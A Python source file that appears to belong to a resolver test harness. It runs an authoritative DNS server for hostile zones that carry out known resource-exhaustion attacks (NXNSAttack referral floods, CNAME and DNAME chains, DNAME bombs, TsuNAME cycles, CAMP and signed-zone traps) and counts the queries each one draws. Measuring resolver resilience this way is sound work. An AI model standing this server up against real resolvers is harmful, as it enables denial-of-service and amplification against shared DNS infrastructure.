#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""The authority of hostile zones: each costs whoever looks it up as much as it can. Counts the queries for each.

attack_server.py --zones attack.json --counts FILE ADDRESS...

  NAME.nxns.attack       a referral to 1500 name servers in a zone of others, none with an address (NXNSAttack); by UDP
                         as many as 1232 octets hold, with TC
  NAME.nxns-small.attack the same, 40 name servers, without TC
  cN.chain.attack        CNAME to c(N+1), one hop for each answer; cN.chain-whole.attack: 100 hops in one answer
  NAME.dname.attack      DNAME to a name below itself: longer each time
  NAME.dN.bomb.attack    DNAME to d(N+1) and so on, 100 of them in each answer
  NAME.self.attack       a referral to self.attack, which is whom one asks
  NAME.tree.attack       a referral to one label more, for ever
  NAME.tsuname1.attack   a delegation to a server in tsuname2.attack, and that one to a server in tsuname1.attack
  NAME.camp.attack       each name is an alias to another zone with 13 name servers that have to be looked up
  NAME.silent.attack     no answer
  NAME.sigjam.s0, .lockcram.s0, .keytrap.s0, .hashtrap.s0   the signed zones of attack_zones.py
  NAME.refusing.s0       signed, and CAA is refused; NAME.keyless.s0: DNSKEY is
"""

import argparse
import asyncio
import json
import struct
from collections import Counter
from functools import lru_cache
from pathlib import Path
import sys

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "support"))
from fault_messages import AA, NOERROR, NXDOMAIN, OWNER, QR, REFUSED, TC, read_query, wire_name  # noqa: E402
from dnssec_signer import name_labels  # noqa: E402

A, NS, CNAME, SOA, DNAME, DNSKEY, RRSIG, CAA = 1, 2, 5, 6, 39, 48, 46, 257
TTL = 60
UDP_OCTETS = 1232
NXNS_SERVERS, NXNS_SMALL_SERVERS, CHAIN_HOPS, CAMP_SERVERS = 1500, 40, 100, 13
HOLE = b"\xff"  # in no name of ours
OWN_ADDRESS = bytes((10, 204, 2, 1))
OPT = b"\0\0\x29" + struct.pack("!HIH", UDP_OCTETS, 0x8000, 0)


def record(owner: bytes, rr_type: int, rdata: bytes) -> bytes:
    return owner + struct.pack("!HHIH", rr_type, 1, TTL, len(rdata)) + rdata


def soa(apex: bytes) -> bytes:
    return record(apex, SOA, apex + apex + struct.pack("!5I", 1, 3600, 600, 86400, TTL))


# What is made beforehand: a server that had to work for it would cost whoever shares its core more than its replies do.
@lru_cache(maxsize=64)
def nxns_records(owner: bytes, label_length: int, count: int) -> bytes:
    """So many NS records, each with a server whose name ends in `label_length` times HOLE."""
    return b"".join(record(owner, NS, server.replace(b"?" * label_length, HOLE * label_length)) for server in
                    (wire_name(f"x{number}-{'?' * label_length}.u0") for number in range(count)))


class Reply:
    """Sections of records in wire form."""

    def __init__(self, flags: int = AA, rcode: int = NOERROR):
        self.flags, self.rcode = flags, rcode
        self.answer: list[bytes] = []
        self.authority: list[bytes] = []
        self.additional: list[bytes] = []

    def wire(self, query, limit: int) -> bytes:
        sections = (self.answer, self.authority, self.additional + [OPT] if query.has_edns else self.additional)
        body = b"".join(b"".join(section) for section in sections)
        flags = QR | self.flags | self.rcode
        if 12 + len(query.question) + len(body) > limit:
            flags |= TC
            sections, body = ([], [], [OPT]), OPT
        return struct.pack("!6H", query.id, flags, 1, *map(len, sections)) + query.question + body


def referral(zone: bytes, servers: list[bytes], glue: bytes | None = None) -> Reply:
    reply = Reply(flags=0)
    reply.authority = [record(zone, NS, server) for server in servers]
    reply.additional = [record(server, A, glue) for server in servers] if glue else []
    return reply


class Attacks:
    """What is answered: one method for each label below `attack`, and the signed zones."""

    def __init__(self, signed_path: str):
        self.signed = {wire_name(zone): {rr_type: [record(OWNER, rr_type, bytes.fromhex(rdata)) for rdata in sets[kind]] +
                                         [record(OWNER, RRSIG, bytes.fromhex(rdata)) for rdata in sets[kind + "_signatures"]]
                                         for kind, rr_type in (("dnskey", DNSKEY), ("caa", CAA)) if sets[kind]}
                       for zone, sets in json.loads(Path(signed_path).read_text(encoding="ascii")).items()}
        self.counts: Counter = Counter()
        self.methods = {"nxns": self.nxns, "nxns-small": self.nxns, "chain": self.chain, "chain-whole": self.chain,
                        "dname": self.dname, "bomb": self.bomb, "self": self.self_referral, "tree": self.tree,
                        "tsuname1": self.tsuname, "tsuname2": self.tsuname, "camp": self.camp, "silent": lambda *_: None}

    def answer(self, query) -> Reply | None:
        labels = [label.decode("ascii", "replace").lower() for label in query.labels]
        for depth in range(len(labels)):
            zone = wire_name(".".join(labels[depth:]))
            if zone in self.signed:
                self.counts[labels[depth]] += 1
                return self.signed_answer(query, zone, self.signed[zone])
        if labels[-1:] != ["attack"]:
            return Reply(flags=0, rcode=REFUSED)
        if len(labels) == 1 or labels[0] == "ns" and len(labels) == 2:
            return self.apex_answer(query, labels)
        self.counts[labels[-2]] += 1
        method = self.methods.get(labels[-2])
        if not method:
            reply = Reply(rcode=NXDOMAIN)
            reply.authority = [soa(wire_name("attack"))]
            return reply
        return method(query, labels)

    @staticmethod
    def apex_answer(query, labels) -> Reply:
        reply = Reply()
        if len(labels) == 1 and query.type == NS:
            reply.answer = [record(OWNER, NS, wire_name("ns.attack"))]
        elif len(labels) == 2 and query.type == A:
            reply.answer = [record(OWNER, A, OWN_ADDRESS)]
        elif len(labels) == 1 and query.type == SOA:
            reply.answer = [soa(OWNER)]
        else:
            reply.authority = [soa(wire_name("attack"))]
        return reply

    @staticmethod
    def signed_answer(query, zone: bytes, sets) -> Reply:
        reply = Reply()
        depth = len(query.labels) - len(name_labels(zone))
        if query.type in (DNSKEY, CAA) and query.type not in sets:
            return Reply(rcode=REFUSED)
        if query.type in sets and depth == (0 if query.type == DNSKEY else 1):
            reply.answer = sets[query.type]
        else:
            reply.authority = [soa(zone)]
        return reply

    @staticmethod
    def nxns(query, labels) -> Reply:
        if len(labels) == 2:
            reply = Reply()
            reply.authority = [soa(wire_name(".".join(labels)))]
            return reply
        count = NXNS_SERVERS if labels[-2] == "nxns" else NXNS_SMALL_SERVERS
        label = labels[-3].encode()
        owner = struct.pack("!H", 0xc000 + 12 + sum(len(above) + 1 for above in labels[:-3]))  # within the question
        reply = Reply(flags=0)
        records = nxns_records(owner, len(label), count).replace(HOLE * len(label), label)
        reply.authority = [records] + [b""] * (count - 1)
        return reply

    @staticmethod
    def chain(query, labels) -> Reply:
        reply = Reply()
        if len(labels) == 2 or not labels[0][1:].isdigit():
            reply.authority = [soa(wire_name(".".join(labels[-2:])))]
            return reply
        number, rest = int(labels[0][1:]), ".".join(labels[-2:])
        for hop in range(CHAIN_HOPS if labels[-2] == "chain-whole" else 1):
            reply.answer.append(record(wire_name(f"c{number + hop}.{rest}"), CNAME, wire_name(f"c{number + hop + 1}.{rest}")))
        return reply

    @staticmethod
    def dname(query, labels) -> Reply:
        reply = Reply()
        apex = wire_name("dname.attack")
        if len(labels) == 2:
            reply.authority = [soa(apex)]
            return reply
        target = wire_name("longer-by-twenty-two.dname.attack")
        reply.answer = [record(apex, DNAME, target)]
        synthesized = query.name[:-len(apex)] + target
        if len(synthesized) > 255:
            reply.rcode = 6  # YXDOMAIN
        else:
            reply.answer.append(record(OWNER, CNAME, synthesized))
        return reply

    @staticmethod
    def bomb(query, labels) -> Reply:
        """NAME.dN.bomb.attack: DNAME of dN to d(N+1), and so on."""
        reply = Reply()
        if len(labels) < 4 or not labels[-3][1:].isdigit():
            reply.authority = [soa(wire_name("bomb.attack"))]
            return reply
        first, prefix = int(labels[-3][1:]), wire_name(".".join(labels[:-3]))[:-1]
        for number in range(first, first + CHAIN_HOPS):
            owner, target = wire_name(f"d{number}.bomb.attack"), wire_name(f"d{number + 1}.bomb.attack")
            reply.answer += [record(owner, DNAME, target), record(prefix + owner, CNAME, prefix + target)]
        return reply

    @staticmethod
    def self_referral(query, labels) -> Reply:
        return referral(wire_name("self.attack"), [wire_name("ns.self.attack")], OWN_ADDRESS)

    @staticmethod
    def tree(query, labels) -> Reply:
        zone = ".".join(labels)
        return referral(wire_name(zone), [wire_name(f"ns.{zone}")], OWN_ADDRESS)

    @staticmethod
    def tsuname(query, labels) -> Reply:
        other = {"tsuname1": "tsuname2", "tsuname2": "tsuname1"}[labels[-2]]
        return referral(wire_name(f"{labels[-2]}.attack"), [wire_name(f"ns.{other}.attack")])

    @staticmethod
    def camp(query, labels) -> Reply:
        """zN.camp.attack: 13 servers to look up, nsK-N.camp.attack; each of those is an alias to zone N+1."""
        if len(labels) == 2:
            reply = Reply()
            reply.authority = [soa(wire_name("camp.attack"))]
            return reply
        label = labels[-3]
        if label.startswith("ns") and "-" in label:
            number = int(label.partition("-")[2] or 0)
            reply = Reply()
            reply.answer = [record(OWNER, CNAME, wire_name(f"www.z{number + 1}.camp.attack"))]
            return reply
        number = int(label[1:]) if label[1:].isdigit() else 0
        return referral(wire_name(f"{label}.camp.attack"),
                        [wire_name(f"ns{server}-{number}.camp.attack") for server in range(CAMP_SERVERS)])


class Datagrams(asyncio.DatagramProtocol):
    def __init__(self, attacks: Attacks):
        self.attacks, self.transport = attacks, None

    def connection_made(self, transport):
        self.transport = transport

    def datagram_received(self, data, addr):
        query = read_query(data)
        reply = self.attacks.answer(query) if query else None
        if reply:
            self.transport.sendto(reply.wire(query, UDP_OCTETS), addr)


async def serve_stream(attacks: Attacks, reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
    try:
        while True:
            length = struct.unpack("!H", await reader.readexactly(2))[0]
            query = read_query(await reader.readexactly(length))
            reply = attacks.answer(query) if query else None
            if reply:
                wire = reply.wire(query, 65535)
                writer.write(struct.pack("!H", len(wire)) + wire)
                await writer.drain()
    except (OSError, asyncio.IncompleteReadError):
        pass
    finally:
        writer.close()


async def serve(options):
    attacks = Attacks(options.zones)
    loop = asyncio.get_running_loop()
    for address in options.addresses:
        await loop.create_datagram_endpoint(lambda: Datagrams(attacks), (address, 53))
        await asyncio.start_server(lambda reader, writer: serve_stream(attacks, reader, writer), address, 53)
    path = Path(options.counts)
    while True:
        fresh = path.with_suffix(".new")
        fresh.write_text("".join(f"{name} {count}\n" for name, count in sorted(attacks.counts.items())), encoding="ascii")
        fresh.rename(path)
        await asyncio.sleep(0.2)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--zones", required=True)
    parser.add_argument("--counts", required=True)
    parser.add_argument("addresses", nargs="+")
    asyncio.run(serve(parser.parse_args()))


if __name__ == "__main__":
    main()
